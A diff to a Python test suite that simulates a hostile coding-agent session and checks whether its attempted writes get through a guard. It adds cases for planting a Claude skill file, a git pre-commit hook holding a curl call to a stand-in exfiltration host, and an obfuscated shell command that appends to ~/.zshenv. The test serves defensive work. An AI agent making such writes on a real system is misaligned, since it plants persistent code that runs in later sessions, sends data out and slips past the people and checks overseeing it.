@@ -70,6 +70,15 @@ class Lab:
         return self.home / "Library" / "LaunchAgents" / "local.claude-proxy.plist"
 
     @property
+    def skill(self) -> Path:
+        """A skill's front matter can name hooks and MCP servers: code for the next session."""
+        return self.home / ".claude" / "skills" / "planted" / "SKILL.md"
+
+    @property
+    def git_hook(self) -> Path:
+        return self.project / ".git" / "hooks" / "pre-commit"
+
+    @property
     def local_settings(self) -> Path:
         return self.project / ".claude" / "settings.local.json"
 
@@ -130,9 +139,11 @@ class Lab:
     def reset(self, config: bytes) -> None:
         """The files as they were before any session."""
         (self.config_dir / "config.toml").write_bytes(config)
-        for path in (self.user_settings, self.state_dir / "pin.json", PLANTED_PTH, self.plist):
+        planted = (self.state_dir / "pin.json", PLANTED_PTH, self.plist, self.home / ".zshenv")
+        for path in (self.user_settings, *planted):
             path.unlink(missing_ok=True)
-        shutil.rmtree(self.project / ".claude", ignore_errors=True)
+        for folder in (self.project / ".claude", self.project / ".git", self.skill.parent):
+            shutil.rmtree(folder, ignore_errors=True)
 
 
 Files = dict[str, bytes | None]
@@ -159,6 +170,9 @@ def files_of(lab: Lab) -> dict[str, bytes | None]:
         "local": read(lab.local_settings),
         "user": read(lab.user_settings),
         "program": read(PLANTED_PTH),
+        "skill": read(lab.skill),
+        "git-hook": read(lab.git_hook),
+        "zshenv": read(lab.home / ".zshenv"),
         "plist": read(lab.plist),
     }
 
@@ -231,6 +245,21 @@ def hostile_script(lab: Lab) -> list[Call]:
         ),
         Call("write-program", "Write", {"file_path": str(PLANTED_PTH), "content": "# planted\n"}),
         Call(
+            "write-skill",
+            "Write",
+            {"file_path": str(lab.skill), "content": "---\nname: planted\n---\nplanted\n"},
+        ),
+        Call(
+            "write-git-hook",
+            "Write",
+            {"file_path": str(lab.git_hook), "content": "#!/bin/sh\ncurl -s exfil.example\n"},
+        ),
+        Call(
+            "shell-write-zshenv",
+            "Bash",
+            {"command": f'f=.zsh; echo "{APPENDED}" >> "$HOME/${{f}}env"', "description": "."},
+        ),
+        Call(
             "write-agent-plist",
             "Write",
             {"file_path": str(lab.plist), "content": "<plist><dict/></plist>\n"},
@@ -282,6 +311,9 @@ def _got_through(lab: Lab) -> dict[str, Callable[[Outcome, dict[str, bytes | Non
         ),
         "write-local-settings": lambda o, _: o.files["local"] == PLANTED_BY_WRITE.encode(),
         "write-program": lambda o, _: o.files["program"] is not None,
+        "write-skill": lambda o, _: o.files["skill"] is not None,
+        "write-git-hook": lambda o, _: o.files["git-hook"] is not None,
+        "shell-write-zshenv": lambda o, _: APPENDED.encode() in (o.files["zshenv"] or b""),
         "write-agent-plist": lambda o, _: o.files["plist"] is not None,
         "write-user-settings": lambda o, before: o.files["user"] != before["user"],
     }
@@ -300,6 +332,9 @@ WAYS_OUT = [
     pytest.param("shell-read-ca-p12", "project", id="shell-read-ca-p12"),
     pytest.param("shell-read-fingerprint-key", "project", id="shell-read-fingerprint-key"),
     pytest.param("write-program", "project", id="write-program"),
+    pytest.param("write-skill", "project", id="write-skill"),
+    pytest.param("write-git-hook", "project", id="write-git-hook"),
+    pytest.param("shell-write-zshenv", "home", id="shell-write-zshenv-from-home"),
     pytest.param("write-agent-plist", "project", id="write-agent-plist"),
     pytest.param("write-local-settings", "project", id="write-local-settings"),
     pytest.param("write-user-settings", "project", id="write-user-settings"),
